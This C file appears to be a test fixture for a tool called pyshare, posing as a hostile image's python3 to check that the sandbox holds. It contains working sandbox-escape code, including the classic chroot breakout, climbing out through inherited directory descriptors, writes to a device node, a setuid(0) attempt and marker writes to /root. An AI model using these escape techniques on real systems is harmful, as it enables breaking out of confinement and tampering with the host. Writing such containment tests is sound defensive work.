/* A hostile image's python3 (or apache2ctl), linked statically: what pyshare --root runs of an
 * image must not get out of it. It tries to write /root/PWNED-by-image where it stands, after
 * the classic chroot escape (mkdir, chroot into it, chdir("..") up, chroot(".")), and through
 * every directory fd it inherited, and to write to a device node of the image (/dev/pst-disk);
 * then it writes what it got to do into report.txt of the
 * directory named by its last argument (the venv pyshare asked for), and fails. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static char report[4096];

static void note(const char *what, int ok)
{
        size_t n = strlen(report);
        snprintf(report + n, sizeof(report) - n, "%s: %s\n", what, ok ? "yes" : "no");
}

static int pwn(int dirfd, const char *path)
{
        int fd = openat(dirfd, path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
        if (fd < 0)
                return 0;
        int ok = write(fd, "pwned by the image\n", 19) == 19;
        close(fd);
        return ok;
}

int main(int argc, char **argv)
{
        int venv = argc > 1 ? open(argv[argc - 1], O_RDONLY | O_DIRECTORY | O_CLOEXEC) : -1;
        snprintf(report, sizeof(report), "uid %d euid %d\n", (int)getuid(), (int)geteuid());

        note("wrote /root/PWNED-by-image in place", pwn(AT_FDCWD, "/root/PWNED-by-image"));

        /* A device node the image brings along (the test's: a loop device over a host file). */
        int dev = open("/dev/pst-disk", O_WRONLY | O_CLOEXEC);
        note("wrote the image's device node", dev >= 0 && write(dev, "pwned by the image\n", 19) == 19 && fsync(dev) == 0);
        if (dev >= 0)
                close(dev);

        /* Inherited directory fds: climb from each to its root. */
        int through_fd = 0;
        for (int fd = 0; fd < 1024; fd++) {
                struct stat st;
                if (fd == venv || fstat(fd, &st) < 0 || !S_ISDIR(st.st_mode) || fchdir(fd) < 0)
                        continue;
                for (int i = 0; i < 64; i++)
                        if (chdir("..") < 0)
                                break;
                through_fd |= pwn(AT_FDCWD, "root/PWNED-by-image");
        }
        note("wrote through an inherited fd", through_fd);

        int escaped = 0;
        if (chdir("/") == 0 && (mkdir("/pst-escape", 0700) == 0 || mkdir("/tmp/pst-escape", 0700) == 0 ||
                                 access("/pst-escape", F_OK) == 0)) {
                const char *d = access("/pst-escape", F_OK) == 0 ? "/pst-escape" : "/tmp/pst-escape";
                if (chroot(d) == 0) {
                        for (int i = 0; i < 256; i++)
                                if (chdir("..") < 0)
                                        break;
                        escaped = chroot(".") == 0;
                }
        }
        note("chroot escape", escaped);
        note("wrote /root/PWNED-by-image after the escape", pwn(AT_FDCWD, "/root/PWNED-by-image"));
        note("became root again", setuid(0) == 0 && geteuid() == 0 && pwn(AT_FDCWD, "/root/PWNED-by-image"));

        if (venv >= 0) {
                int fd = openat(venv, "report.txt", O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
                if (fd >= 0) {
                        ssize_t k = write(fd, report, strlen(report));
                        (void)k;
                        close(fd);
                }
        }
        fputs(report, stderr);
        fputs("the image's python3 is hostile: giving up\n", stderr);
        return 1;
}
